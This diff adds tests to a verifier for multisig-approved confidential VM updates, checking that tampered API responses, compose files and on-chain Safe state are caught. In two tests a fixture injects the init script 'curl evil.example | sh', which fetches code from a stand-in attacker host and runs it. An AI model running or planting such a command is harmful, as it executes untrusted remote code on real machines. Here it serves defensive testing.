@@ -105,3 +105,83 @@ describe('an update that waits for a Safe', () => {
     expect(stdout).toMatch(/^Verified: 21 checks passed, 1 could not be made/m);
   });
 });
+
+describe('a lie', () => {
+  it('of the API, which plans another document than was asked for, is found by its hash', async () => {
+    const cvm = await rig.addCvm('safe');
+    cvm.quirks = { serverAddedFields: { init_script: 'curl evil.example | sh' } };
+    const { file } = await exported(await waiting(cvm));
+    const result = await verifyFile(file);
+    expect(result).toMatchObject({ verified: false, code: 8 });
+    expect(names(result, 'failed')).toEqual(['composeHash']);
+  });
+
+  it('of the API, which shows another document than the CVM runs, is found by the base', async () => {
+    const cvm = await rig.addCvm('safe');
+    const set = { init_script: 'curl evil.example | sh' };
+    const what = { kind: 'alterBody', set } as const;
+    rig.cloud.simulator.faults.add({ endpoint: 'getComposeFile', cvm: cvm.vmUuid, times: null, what });
+    const { file } = await exported(await waiting(cvm));
+    const result = await verifyFile(file);
+    expect(result).toMatchObject({ verified: false, code: 8 });
+    expect(names(result, 'failed')).toEqual(['base', 'composeHash']);
+  });
+
+  it('about the compose file that the approver knows is found by his own', async () => {
+    const change = await rig.countersign.updateCvm(rig.request(await rig.addCvm('safe')));
+    await rig.until(change, 'awaitingRegistration');
+    const { file } = await exported(change);
+    const result = await verifyFile(file);
+    expect(result).toMatchObject({ verified: false, code: 8 });
+    expect(names(result, 'failed')).toEqual(['composeFile']);
+  });
+
+  it('of the engine about the chain is found by the node, field by field', async () => {
+    const cvm = await rig.addCvm('safe');
+    const { file, proposal } = await exported(await waiting(cvm));
+    const other = `0x${'9'.repeat(40)}`;
+    const { safe } = proposal;
+    const lies: readonly (readonly [expected: readonly string[], lie: object])[] = [
+      [['owner', 'ownerKind'], { owner: other }],
+      [['pendingOwner'], { pendingOwner: other }],
+      [['ownerKind'], { registrar: 'ownerKey' }],
+      [['safeState'], { safe: { ...safe, threshold: 1 } }],
+      [['safeState'], { safe: { ...safe, version: '1.3.0' } }],
+      [['safeState'], { safe: { ...safe, owners: [other, ...safe.owners.slice(1)] } }],
+      [['baseAllowed', 'base'], { base: { ...proposal.base, composeHash: `0x${'7'.repeat(64)}` } }],
+    ];
+    for (const [expected, lie] of lies) {
+      await writeFile(file, JSON.stringify({ ...proposal, ...lie }));
+      const result = await verifyFile(file);
+      expect(result, JSON.stringify(lie)).toMatchObject({ verified: false, code: 8 });
+      expect(names(result, 'failed').toSorted(), JSON.stringify(lie)).toEqual(expected.toSorted());
+    }
+  });
+
+  it('is not needed: what stands on chain already is not to be signed', async () => {
+    const change = await waiting(await rig.addCvm('safe'));
+    const { file } = await exported(change);
+    await change.send('pause', { by: 'test' });
+    await rig.signAndExecute(await change.status());
+    const result = await verifyFile(file);
+    expect(result).toMatchObject({ verified: false, code: 8 });
+    expect(names(result, 'failed')).toEqual(['stillMissing', 'safeState']);
+  });
+});
+
+describe('countersign verify', () => {
+  it('says what is no exported proposal, and asks nobody', async () => {
+    await writeFile(join(folder, 'other.json'), '{"format":"something"}');
+    const wrong = await cli(['verify', '--file', 'other.json', '--json']);
+    expect(wrong.code).toBe(2);
+    expect(JSON.parse(wrong.stdout).error).toMatchObject({ type: 'InvalidInput', effect: 'none' });
+    expect((await cli(['verify', '--file', 'compose.yml'])).stderr).toContain('is not JSON');
+    expect((await cli(['verify'])).code).toBe(2);
+    expect((await cli(['verify', 'x', '--file', 'other.json'])).code).toBe(2);
+  });
+
+  it('counts what cannot be checked as failed where that is asked for', async () => {
+    const { file } = await exported(await waiting(await rig.addCvm('safe')));
+    expect(await verifyFile(file, '--strict')).toMatchObject({ verified: false, code: 8 });
+  });
+});
